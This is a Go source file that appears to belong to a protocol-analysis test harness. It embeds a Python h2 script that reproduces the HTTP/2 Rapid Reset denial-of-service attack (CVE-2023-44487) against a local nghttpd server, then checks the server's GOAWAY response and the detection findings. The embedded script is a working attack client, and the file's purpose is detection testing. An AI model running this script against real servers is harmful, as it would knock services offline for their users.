package main

import (
	"context"
	"encoding/json"
	"fmt"
	"strconv"
	"strings"
)

// Rapid reset (CVE-2023-44487) played by a real client library against a
// real server: python-h2 opens streams against nghttpd and resets each
// in the same write as its request, before any answer, as the 2023
// attacks did; the synthetic attacks/rapid-reset has the same shape.

// pythonRapidResetClient is the python-h2 client of
// nghttpd-python-rapid-reset: over h2c with prior knowledge it sends N
// GETs, each HEADERS followed at once by RST_STREAM(CANCEL) in the same
// write, BATCH streams a write, then reads what the server sent until it
// closes or goes quiet. It prints one JSON object per event.
const pythonRapidResetClient = `import json, socket, sys, time
import h2, h2.config, h2.connection, h2.events, h2.errors
host, port, n, batch, path = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4]), sys.argv[5]
t0 = time.monotonic()
def log(**kw):
    kw["t"] = round(time.monotonic() - t0, 6)
    print(json.dumps(kw), flush=True)
sock = socket.create_connection((host, port))
log(event="Connected", local_port=sock.getsockname()[1], h2=h2.__version__)
conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
conn.initiate_connection()
sock.sendall(conn.data_to_send())
sent = 0
closed = False
while sent < n and not closed:
    k = min(batch, n - sent)
    for _ in range(k):
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, [(":method", "GET"), (":scheme", "http"), (":authority", "%s:%d" % (host, port)), (":path", path)], end_stream=True)
        conn.reset_stream(sid, error_code=h2.errors.ErrorCodes.CANCEL)
    try:
        sock.sendall(conn.data_to_send())
        sent += k
    except OSError as e:
        log(event="WriteFailed", error=str(e))
        closed = True
    time.sleep(0.002)
log(event="SentResets", streams=sent, closed=closed)
sock.settimeout(0.5)
got = {}
try:
    while True:
        data = sock.recv(65536)
        if not data:
            break
        for ev in conn.receive_data(data):
            name = type(ev).__name__
            got[name] = got.get(name, 0) + 1
            if isinstance(ev, h2.events.ConnectionTerminated):
                log(event=name, code=ev.error_code.name, last_stream=ev.last_stream_id)
        d = conn.data_to_send()
        if d:
            sock.sendall(d)
except (socket.timeout, OSError, h2.exceptions.ProtocolError):
    pass
log(event="Received", events=got)
try:
    conn.close_connection()
    sock.sendall(conn.data_to_send())
    sock.shutdown(socket.SHUT_WR)
except OSError:
    pass
`

func init() {
	addStackScenarios(&scenario{
		name: "nghttpd-python-rapid-reset",
		description: "Rapid reset (CVE-2023-44487) by a real client library against a real server: python-h2 over h2c to " +
			"nghttpd 1.52 sends up to 2,000 GETs, each HEADERS followed in the same write by RST_STREAM(CANCEL), 100 streams " +
			"a write every 2 ms, before reading anything; nghttpd (with nghttp2's rapid reset fix) ends the connection after " +
			"about 1,000, and its frame log counts the RST_STREAM frames it received.",
		findings: []string{"rst_storm", "goaway"},
		commit:   true,
		tools:    []string{"nghttpd", "python3-h2"},
		stack:    runNghttpdRapidReset,
	})
}

// runNghttpdRapidReset is nghttpd-python-rapid-reset.
func runNghttpdRapidReset(ctx context.Context, r *stackRun) error {
	const n, batch, size = 2000, 100, 1000
	if err := r.writeWWW(size); err != nil {
		return err
	}
	srv, err := r.startNghttpd(ctx)
	if err != nil {
		return err
	}
	out, err := r.pythonH2(ctx, "rapid.py", pythonRapidResetClient, "client events, one JSON object a line",
		strconv.Itoa(n), strconv.Itoa(batch), "/"+strconv.Itoa(size))
	if err != nil {
		return err
	}
	r.stopAll(sigTerm)
	frames := r.nghttpdFrames(r.output(srv))
	sent := 0
	for _, l := range lines(out) {
		var ev struct {
			Event     string `json:"event"`
			LocalPort int    `json:"local_port"`
			Streams   int    `json:"streams"`
		}
		if err := json.Unmarshal([]byte(l), &ev); err != nil {
			return fmt.Errorf("python-h2 client line %q: %v", l, err)
		}
		switch ev.Event {
		case "Connected":
			r.newConn(ev.LocalPort, "rapid-reset")
		case "SentResets":
			sent = ev.Streams
		}
	}
	// nghttp2 since its CVE-2023-44487 fix (Debian's 1.52 has it) ends a
	// connection that resets streams this fast, after about 1,000: the
	// client stops when its write fails.
	got := frames["recv RST_STREAM CANCEL"]
	if got < 1000 || got > sent {
		return fmt.Errorf("the client reset %d streams, nghttpd received %d RST_STREAM CANCEL; want 1,000 or more", sent, got)
	}
	// On the wire: every stream the client wrote (the attack truths'
	// meaning); nghttpd read only those before its GOAWAY.
	r.fact("rst_frames", sent)
	r.fact("streams_reset", sent)
	r.fact("server_recv_rst_frames", got)
	r.fact("server_recv_headers", frames["recv HEADERS"])
	r.fact("server_sent_headers", frames["send HEADERS"])
	r.fact("server_sent_goaway", frames["send GOAWAY"])
	r.fact("client_streams_written", sent)
	if frames["send GOAWAY"] != 1 {
		return fmt.Errorf("nghttpd sent %d GOAWAY frames, want the one that ends the attack", frames["send GOAWAY"])
	}
	code := ""
	for k := range frames {
		if c, ok := strings.CutPrefix(k, "send GOAWAY "); ok {
			code = c
		}
	}
	r.verdictCause("goaway", "critical", "error",
		"the server ended the attacking connection with an error GOAWAY ("+code+"); the streams written on after it "+
			"were reset by the client itself, so none counts as cut",
		fmt.Sprintf("nghttpd -v: send GOAWAY %s after %d RST_STREAM; the client wrote %d streams in all", code, got, sent))
	r.verdictCause("rst_storm", "critical", "rapid_reset",
		"the client reset every stream in the write that opened it, before any response: CVE-2023-44487's shape",
		fmt.Sprintf("python-h2 wrote %d HEADERS each followed by RST_STREAM(CANCEL) in the same write; nghttpd -v: %d recv "+
			"RST_STREAM CANCEL, %d send HEADERS (responses it started for streams already reset)", sent, got, frames["send HEADERS"]))
	return nil
}
